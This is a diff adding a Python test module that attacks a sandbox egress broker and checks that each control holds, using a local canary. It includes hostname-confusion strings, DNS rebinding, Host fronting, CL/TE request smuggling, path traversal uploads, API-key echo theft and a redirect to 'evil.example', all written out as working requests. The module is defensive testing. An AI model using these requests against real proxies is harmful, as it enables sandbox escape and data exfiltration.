@@ -1,0 +1,338 @@
+"""Attacks on the broker, each with the control that must stop it and a weakened broker in which it succeeds.
+
+``CATALOGUE`` holds them with their numbers in the catalogue of sandbox attacks. :func:`judge` opens a real lease in
+front of a canary on the loopback and attempts the attack twice: with every protection (the canary's own private
+address excepted where a granted host is wanted), and with those of ``weakens`` off. Reached in the first:
+escaped. Not reached in the second: the attack proves nothing and is inconclusive.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import json
+import socket
+import ssl
+import tempfile
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from enum import StrEnum
+from pathlib import Path
+from typing import Self
+
+from orchestrator.broker.certificates import Authority
+from orchestrator.broker.lease import ProcessBroker, ProcessLease
+from orchestrator.broker.setup import CA_FILE, RELAY, SOCKET, Protection
+from orchestrator.models.base import RunId, sha256
+from orchestrator.models.capabilities import Egress
+from orchestrator.models.endpoint import Credential, CredentialKind, Endpoint, SecretSource, SourceKind, WireProtocol
+from orchestrator.ports import BrokerGrant
+
+HOST, OTHER = "docs.example", "other.example"
+CANARY_KEY = "canary-key-0123456789"
+SECONDS = 20.0
+_REBOUND = frozenset({Protection.ADDRESSES})
+_OPEN_KIB = 8
+_PARSED = (
+    f"{OTHER}%00.{HOST}",
+    f"{OTHER}#.{HOST}",
+    f"{OTHER}/.{HOST}",
+    f"{OTHER}\\.{HOST}",
+    f"{HOST}@{OTHER}",
+    f"evil{HOST}",
+    f"{HOST}.{OTHER}",
+    f"x.{HOST}",
+    f"{HOST}.",
+    "2130706433",
+    "0x7f.1",
+    "[::1]",
+    "localhost",
+)
+_CONTROL_PLANE = ("/", "/lease", "/close", "/runs", "/approve", "/containers/json", "/_ping", "/anthropic/v1/models")
+
+
+class Verdict(StrEnum):
+    HELD = "held"
+    ESCAPED = "escaped"
+    INCONCLUSIVE = "inconclusive"
+
+
+@dataclass(slots=True)
+class Target:
+    """What an attacker inside has: the socket, the token, the certificate. ``canary`` is what must not be reached."""
+
+    connect: Callable[[], socket.socket]
+    token: str
+    authority: Path
+    canary: Canary
+
+    def exchange(self, data: bytes) -> bytes:
+        """Send exact bytes; what comes back up to the end of sending."""
+        with self.connect() as stream:
+            stream.sendall(data)
+            with contextlib.suppress(OSError):
+                stream.shutdown(socket.SHUT_WR)
+            return _all(stream)
+
+    def through(self, request: bytes) -> bytes:
+        """Send a request through a tunnel to the granted host; ``b""`` when there is no tunnel."""
+        with self.connect() as stream:
+            stream.sendall(self.tunnel(f"{HOST}:{self.canary.tls_port}"))
+            if not _head(stream).startswith(b"HTTP/1.1 200"):
+                return b""
+            context = ssl.create_default_context(cafile=self.authority)
+            with contextlib.suppress(OSError), context.wrap_socket(stream, server_hostname=HOST) as inner:
+                inner.sendall(request)
+                return inner.recv(65536)
+        return b""
+
+    def tunnel(self, authority: str) -> bytes:
+        """A ``CONNECT`` with the lease's token."""
+        login = base64.b64encode(f"handrail:{self.token}".encode()).decode()
+        lines = (f"CONNECT {authority} HTTP/1.1", f"Host: {authority}", f"Proxy-Authorization: Basic {login}", "", "")
+        return "\r\n".join(lines).encode()
+
+
+def model_request(token: str, host: str = RELAY, more: str = "", body: bytes = b"") -> bytes:
+    """A well-formed model request, or one that is spoilt by ``more``."""
+    body = body or json.dumps({"model": "m", "max_tokens": 5, "messages": []}).encode()
+    head = f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: {host}\r\nx-api-key: {token}\r\n"
+    return head.encode() + (more or f"Content-Length: {len(body)}\r\n").encode() + b"\r\n" + body
+
+
+def rebinds(target: Target) -> bool:
+    """34: a granted name whose address is the machine itself."""
+    target.through(f"GET /open HTTP/1.1\r\nHost: {HOST}:{target.canary.tls_port}\r\n\r\n".encode())
+    return bool(target.canary.requests)
+
+
+def confuses_hosts(target: Target) -> bool:
+    """35: names that a careless reader takes for a granted one."""
+    authorities = [f"{name}:{target.canary.tls_port}" for name in _PARSED]
+    return any(target.exchange(target.tunnel(a)).startswith(b"HTTP/1.1 200") for a in authorities)
+
+
+def fronts(target: Target) -> bool:
+    """36: a granted name outside, another one within."""
+    target.through(f"GET /open HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
+    return any(OTHER.encode() in request for request in target.canary.requests)
+
+
+def uploads(target: Target) -> bool:
+    """37: a method and a path of a granted host that are not granted."""
+    host = f"Host: {HOST}:{target.canary.tls_port}\r\n"
+    target.through(f"POST /open HTTP/1.1\r\n{host}Content-Length: 6\r\n\r\nstolen".encode())
+    target.through(f"GET /open/../stolen HTTP/1.1\r\n{host}\r\n".encode())
+    target.through(f"GET /stolen HTTP/1.1\r\n{host}\r\n".encode())
+    return bool(target.canary.requests)
+
+
+def passes_bytes(target: Target) -> bool:
+    """37: more bytes to a granted path than are granted."""
+    filler = "x" * (_OPEN_KIB + 1) * 1024
+    host = f"Host: {HOST}:{target.canary.tls_port}\r\n"
+    target.through(f"GET /open?{filler} HTTP/1.1\r\n{host}\r\n".encode())
+    return bool(target.canary.requests)
+
+
+def reaches_loopback(target: Target) -> bool:
+    """38: the machine's own ports by their addresses."""
+    names = ("127.0.0.1", "localhost", "0.0.0.0")  # noqa: S104  # nosec B104  nothing is bound to it
+    tunnels = [target.tunnel(f"{name}:{target.canary.tls_port}") for name in names]
+    return any(target.exchange(data).startswith(b"HTTP/1.1 200") for data in tunnels)
+
+
+def finds_control_plane(target: Target) -> bool:
+    """39: anything on the socket that answers somebody without the lease's token."""
+    asked = [f"GET {path} HTTP/1.1\r\nHost: {RELAY}\r\n\r\n".encode() for path in _CONTROL_PLANE]
+    return any(target.exchange(data).startswith(b"HTTP/1.1 2") for data in asked)
+
+
+def steals_key(target: Target) -> bool:
+    """40: an upstream that sends the key back."""
+    return CANARY_KEY.encode() in target.exchange(model_request(target.token))
+
+
+def redirects_models(target: Target) -> bool:
+    """41: a base URL of the repository's choice, as a Host or in the request's target."""
+    absolute = model_request(target.token).replace(b"/anthropic", b"http://evil.example/anthropic", 1)
+    asked = (model_request(target.token, host="evil.example"), absolute)
+    return any(target.exchange(data).startswith(b"HTTP/1.1 200") for data in asked)
+
+
+def smuggles(target: Target) -> bool:
+    """36: one request that two readers cut in different places."""
+    body = json.dumps({"model": "m", "max_tokens": 5, "messages": []}).encode()
+    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
+    both = f"Content-Length: {len(chunked)}\r\nTransfer-Encoding: chunked\r\n"
+    return target.exchange(model_request(target.token, more=both, body=chunked)).startswith(b"HTTP/1.1 200")
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """``attempt`` says whether it got what it must not get; ``rebound`` allows the canary's own address."""
+
+    id: int
+    name: str
+    control: str
+    attempt: Callable[[Target], bool]
+    weakens: frozenset[Protection]
+    rebound: bool = True
+
+
+def _attack(number: int, control: str, attempt: Callable[[Target], bool], *off: Protection) -> Attack:
+    return Attack(number, attempt.__name__.replace("_", "-"), control, attempt, frozenset(off))
+
+
+CATALOGUE = (
+    Attack(34, "rebinds", "addresses judged after resolving, and pinned", rebinds, _REBOUND, rebound=False),
+    _attack(35, "strict names", confuses_hosts, Protection.HOSTS, Protection.GRANTS),
+    _attack(36, "Host equals the tunnel's name", fronts, Protection.SERVER_NAME),
+    _attack(36, "one framing a message", smuggles, Protection.FRAMING),
+    _attack(37, "methods and paths judged inside TLS", uploads, Protection.GRANTS),
+    _attack(37, "bytes counted for each host", passes_bytes, Protection.BUDGET),
+    _attack(38, "no addresses, no loopback", reaches_loopback, Protection.HOSTS, Protection.GRANTS),
+    _attack(39, "no control plane, nothing without the token", finds_control_plane, Protection.TOKEN),
+    _attack(40, "keys added outside, masked on the way in", steals_key, Protection.MASKING),
+    _attack(41, "the broker chooses the upstream", redirects_models, Protection.HOSTS),
+)
+
+
+def judge(attack: Attack) -> Verdict:
+    """Attempt it on a real lease, then on a weakened one."""
+    kept = _REBOUND if attack.rebound else frozenset[Protection]()
+    with scene(kept) as target:
+        if attack.attempt(target):
+            return Verdict.ESCAPED
+    with scene(kept | attack.weakens) as target:
+        return Verdict.HELD if attack.attempt(target) else Verdict.INCONCLUSIVE
+
+
+@contextmanager
+def scene(weakened: frozenset[Protection]) -> Iterator[Target]:
+    """A lease with one granted path of one granted host and one model, both answered by a canary."""
+    with tempfile.TemporaryDirectory() as place:
+        folder = Path(place)
+        authority = Authority(folder)
+        (folder / "canary.pem").write_bytes(authority.pem())
+        (folder / "key").touch(mode=0o600)
+        (folder / "key").write_text(CANARY_KEY)
+        tls = authority.server_context(HOST, lambda _: True)
+        broker = ProcessBroker(
+            sha256,
+            hosts={HOST: ("127.0.0.1",), OTHER: ("127.0.0.1",)},
+            trust=folder / "canary.pem",
+            weakened=weakened,
+        )
+        with Canary(tls) as canary, broker.open(_grant(folder, canary), _Unlimited(), lambda _: None) as lease:
+            yield Target(lambda: _connect(lease), lease.token, Path(lease.mount) / CA_FILE, canary)
+
+
+def _grant(folder: Path, canary: Canary) -> BrokerGrant:
+    source = SecretSource(kind=SourceKind.FILE, value=(str(folder / "key"),))
+    endpoint = Endpoint(
+        name="canary",
+        protocol=WireProtocol.ANTHROPIC,
+        base_url=f"http://127.0.0.1:{canary.port}",
+        models=("m",),
+        credential=Credential(kind=CredentialKind.API_KEY, source=source),
+        private=True,
+    )
+    rule = Egress(host=HOST, port=canary.tls_port, paths=("/open",), max_kib=_OPEN_KIB)
+    return BrokerGrant(
+        key="attack",
+        run=RunId("attack"),
+        endpoints=(endpoint,),
+        models=("canary/m",),
+        egress=(rule,),
+        egress_kib=_OPEN_KIB,
+        tokens=10_000,
+    )
+
+
+def _connect(lease: ProcessLease) -> socket.socket:
+    stream = socket.socket(socket.AF_UNIX)
+    stream.settimeout(SECONDS)
+    stream.connect(f"{lease.mount}/{SOCKET}")
+    return stream
+
+
+class _Unlimited:
+    """No run stands behind an attack."""
+
+    def reserve(self, key: str, tokens: int, cost_usd: float) -> bool:
+        return bool(key) and tokens >= 0 and cost_usd >= 0
+
+    def settle(self, key: str, tokens: int, cost_usd: float) -> None:
+        del key, tokens, cost_usd
+
+
+@dataclass(slots=True)
+class Canary:
+    """Two ports of the loopback, one with TLS, that keep what they are asked and send it back."""
+
+    tls: ssl.SSLContext
+    requests: list[bytes] = field(default_factory=list[bytes])
+    _servers: list[socket.socket] = field(default_factory=list[socket.socket])
+
+    @property
+    def port(self) -> int:
+        return int(self._servers[0].getsockname()[1])
+
+    @property
+    def tls_port(self) -> int:
+        return int(self._servers[1].getsockname()[1])
+
+    def __enter__(self) -> Self:
+        for secured in (False, True):
+            server = socket.create_server(("127.0.0.1", 0))
+            self._servers.append(server)
+            threading.Thread(target=self._serve, args=(server, secured), daemon=True).start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        for server in self._servers:
+            with contextlib.suppress(OSError):
+                server.shutdown(socket.SHUT_RDWR)
+            server.close()
+
+    def _serve(self, server: socket.socket, secured: bool) -> None:  # noqa: FBT001  a thread takes no keywords simply
+        while True:
+            try:
+                stream, _ = server.accept()
+            except OSError:
+                return
+            with stream, contextlib.suppress(OSError):
+                stream.settimeout(SECONDS)
+                if secured:
+                    with self.tls.wrap_socket(stream, server_side=True) as inner:
+                        self._answer(inner)
+                else:
+                    self._answer(stream)
+
+    def _answer(self, stream: socket.socket) -> None:
+        head = _head(stream)
+        if not head:
+            return
+        self.requests.append(head)
+        body = json.dumps({"echo": head.decode("latin-1")}).encode()
+        stream.sendall(b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
+
+
+def _head(stream: socket.socket) -> bytes:
+    data = b""
+    while not data.endswith(b"\r\n\r\n") and (byte := stream.recv(1)):
+        data += byte
+    return data
+
+
+def _all(stream: socket.socket) -> bytes:
+    data = b""
+    with contextlib.suppress(OSError):
+        while piece := stream.recv(65536):
+            data += piece
+            if data.startswith(b"HTTP/1.1 200 Connection"):
+                break
+    return data
